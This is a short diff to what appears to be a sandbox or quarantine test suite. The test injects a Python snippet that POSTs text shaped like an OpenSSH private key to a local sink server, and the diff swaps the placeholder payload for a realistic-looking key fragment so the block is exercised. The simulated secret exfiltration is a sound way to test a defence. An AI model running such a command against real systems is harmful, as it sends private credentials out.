@@ -108,7 +108,7 @@ describe('quarantine cannot be evaded by filling the grant', () => {
     const state = mkdtempSync(join(base, 'state-'));
     const script = FILL(join(base, 'leaker-work'), 'done').replace('time.sleep(600)', `import urllib.request
 try:
-    urllib.request.urlopen(urllib.request.Request("http://127.0.0.1:${sinkPort}/x", data=b"-----BEGIN OPENSSH PRIVATE KEY-----\\nabc", method="POST"))
+    urllib.request.urlopen(urllib.request.Request("http://127.0.0.1:${sinkPort}/x", data=b"-----BEGIN OPENSSH PRIVATE KEY-----\\nb3BlbnNzaC1rZXktdjEAAAAABG5vbmUAAAAEbm9uZQAAAAAAAAABAAAAMwAAAAtzc2gtZW", method="POST"))
 except Exception as e:
     print("blocked", e)
 time.sleep(600)`);
